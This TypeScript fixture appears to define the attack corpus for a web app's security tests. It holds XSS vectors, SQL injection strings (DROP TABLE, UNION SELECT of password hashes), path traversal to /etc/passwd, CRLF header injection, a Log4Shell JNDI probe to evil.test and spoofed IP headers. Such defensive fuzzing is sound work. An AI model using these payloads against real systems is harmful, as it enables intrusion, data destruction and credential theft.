/**
 * The attack corpus: strings sent into every field, query parameter and path parameter of every
 * route. XSS payloads call `__xss(n)` so the browser phase can tell which one ran, if any.
 */

/** Script that would run if a field were rendered unescaped, in text, attribute, URL and script contexts. */
export const xssPayloads = (() => {
  const vectors = [
    (n: number) => `<script>__xss(${n})</script>`,
    (n: number) => `<img src=x onerror=__xss(${n})>`,
    (n: number) => `"><svg onload=__xss(${n})>`,
    (n: number) => `'><img src=x onerror=__xss(${n})>`,
    (n: number) => `</textarea><script>__xss(${n})</script>`,
    (n: number) => `</title><script>__xss(${n})</script>`,
    (n: number) => `</script><script>__xss(${n})</script>`,
    (n: number) => `javascript:__xss(${n})`,
    (n: number) => `JaVaScRiPt:__xss(${n})`,
    (n: number) => `java&#x09;script:__xss(${n})`,
    (n: number) => `data:text/html,<script>__xss(${n})</script>`,
    (n: number) => `<a href="javascript:__xss(${n})">click</a>`,
    (n: number) => `<iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe>`,
    (n: number) => `<details open ontoggle=__xss(${n})>`,
    (n: number) => `<body onload=__xss(${n})>`,
    (n: number) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${n})>`,
    (n: number) => `<svg><script>__xss(${n})</script></svg>`,
    (n: number) => `<object data="javascript:__xss(${n})"></object>`,
    (n: number) => `<embed src="javascript:__xss(${n})">`,
    (n: number) => `<form><button formaction=javascript:__xss(${n})>x</button></form>`,
    (n: number) => `<input autofocus onfocus=__xss(${n})>`,
    (n: number) => `<video><source onerror=__xss(${n})></video>`,
    (n: number) => `<style>@import 'javascript:__xss(${n})';</style>`,
    (n: number) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${n})">`,
    (n: number) => `<base href="javascript:__xss(${n})//">`,
    (n: number) => `<img src="x" alt="\`\`onerror=__xss(${n})">`,
    (n: number) => `&lt;script&gt;__xss(${n})&lt;/script&gt;`,
    (n: number) => `<scr<script>ipt>__xss(${n})</scr</script>ipt>`,
    (n: number) => `"-__xss(${n})-"`,
    (n: number) => `';__xss(${n});//`,
    (n: number) => `\\u003cscript\\u003e__xss(${n})\\u003c/script\\u003e`,
    (n: number) => `{{constructor.constructor('__xss(${n})')()}}`,
    (n: number) => `<noscript><p title="</noscript><img src=x onerror=__xss(${n})>">`,
    (n: number) => `<template><script>__xss(${n})</script></template><div id=t></div>`,
    (n: number) => `<a href="&#106;avascript:__xss(${n})">x</a>`,
    (n: number) => `<img src=x:x onerror=window["__xss"](${n})>`,
    (n: number) => `<x contenteditable onblur=__xss(${n})>x`,
    (n: number) => `<marquee onstart=__xss(${n})>`,
    (n: number) => `<svg><animate onbegin=__xss(${n}) attributeName=x dur=1s>`,
    (n: number) => `<link rel=import href="data:text/html,<script>__xss(${n})</script>">`,
  ];
  return vectors.map((vector, index) => vector(1000 + index));
})();

/** SQL injection and LIKE wildcards: must be stored and searched as plain text. */
export const sqlPayloads = [
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR "1"="1',
  "1' AND SLEEP(5)--",
  "1; DROP TABLE contacts; --",
  "'; DELETE FROM admin_users; --",
  "' UNION SELECT password_hash FROM admin_users --",
  "1 UNION SELECT 1,2,3,4,5,6,7,8,9,10--",
  "') OR ('1'='1",
  "admin'--",
  "' AND (SELECT COUNT(*) FROM sqlite_master) > 0 --",
  "' AND randomblob(1000000000) --",
  "1 AND 1=CAST((SELECT sqlite_version()) AS INT)",
  "' || (SELECT name FROM sqlite_master LIMIT 1) || '",
  "%",
  "_",
  "%%",
  "%_%",
  "\\",
  "\\%",
  "[a-z]%",
  "*",
  "' ESCAPE '\\",
  "ＯＲ １＝１",
  "1e309",
  "' OR ''='",
  "1' ORDER BY 100--",
  "' GROUP BY 1 HAVING 1=1--",
  "'/**/OR/**/1=1--",
  "' OR 1=1 LIMIT 1 OFFSET 0 --",
  "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
  "' AND load_extension('x') --",
  "'); PRAGMA writable_schema=ON; --",
  "1 AND (SELECT 1 FROM pragma_table_info('admin_users'))",
  "%' AND 1=1 AND '%'='",
  "a%b_c\\d",
  "%00%",
  "'||'",
  "-1",
  "0",
  "NULL",
  "null",
  "undefined",
];

/** Path traversal and odd path segments. */
export const traversalPayloads = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..\\..\\..\\windows\\win.ini",
  "....//....//etc/passwd",
  "/etc/passwd",
  "file:///etc/passwd",
  "%00",
  "a%00.png",
  "..;/admin",
  "%252e%252e%252f",
  ".wrangler/state",
  "~root",
  "con",
  "%c0%ae%c0%ae/",
  "/api/../admin",
  "//evil.test/x",
  "\\\\evil.test\\share",
  "media/../../wrangler.toml",
  ".%2e/.%2e/wrangler.toml",
];

/** Header injection: CR/LF that would add a header or split the answer if reflected into one. */
export const headerInjectionPayloads = [
  "x\r\nX-Injected: 1",
  "x\r\n\r\n<script>__xss(9001)</script>",
  "x\nX-Injected: 1",
  "x%0d%0aX-Injected:%201",
  "x%0aX-Injected:%201",
  "x\u2028X-Injected: 1",
  "x\u0085X-Injected: 1",
  "x\r\nSet-Cookie: injected=1",
  "%0d%0aLocation:%20http://evil.test",
  "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
];

/** Values that stress parsing, limits and encodings. */
export const oddValues = [
  "",
  " ",
  "\u0000",
  "\u0000\u0001\u0002",
  "\uFEFF",
  "\uD800",
  "\uDFFF",
  "𝕏".repeat(100),
  "é".repeat(300),
  "a".repeat(10_000),
  "a".repeat(70_000),
  "\u202Egnp.exe",
  "<!--",
  "]]>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is this literal text
  "${jndi:ldap://evil.test/a}",
  "{{7*7}}",
  "<%= 7*7 %>",
  '{"$ne": null}',
  "[object Object]",
  "__proto__",
  "constructor",
  "true",
  "9".repeat(400),
  "-9".repeat(10),
  "1.7976931348623157e+309",
  "NaN",
  "Infinity",
  "0x7fffffff",
  "2147483648",
  "9007199254740993",
];

/** Huge page and limit values (and others that are not whole numbers). */
export const pagingPayloads = [
  "999999999999",
  "1e9",
  "-1",
  "0",
  "1.5",
  "9007199254740993",
  "99999999999999999999999",
  "NaN",
  "Infinity",
  "0x10",
  "100000",
  "100001",
  "101",
  "+1",
  " 1",
];

/** The floor: every route gets at least this many payloads. */
export const MIN_CORPUS = 150;

/** Everything sent into fields, each string once: at least MIN_CORPUS. */
export const CORPUS = [
  ...new Set([
    ...xssPayloads,
    ...sqlPayloads,
    ...traversalPayloads,
    ...headerInjectionPayloads,
    ...oddValues,
    ...pagingPayloads,
  ]),
];

/** Client-address headers a client may spoof; only CF-Connecting-IP (set by Cloudflare) may count. */
export const SPOOFED_ADDRESS_HEADERS: Record<string, string>[] = [
  { "X-Forwarded-For": "127.0.0.1" },
  { "X-Forwarded-For": "1.2.3.4, 127.0.0.1" },
  { "X-Real-IP": "127.0.0.1" },
  { "True-Client-IP": "127.0.0.1" },
  { Forwarded: "for=127.0.0.1" },
  { "CF-Connecting-IP": "not-an-ip\r\n" },
  { "CF-Connecting-IP": "' OR 1=1 --" },
  { "CF-Connecting-IP": "a".repeat(5000) },
];
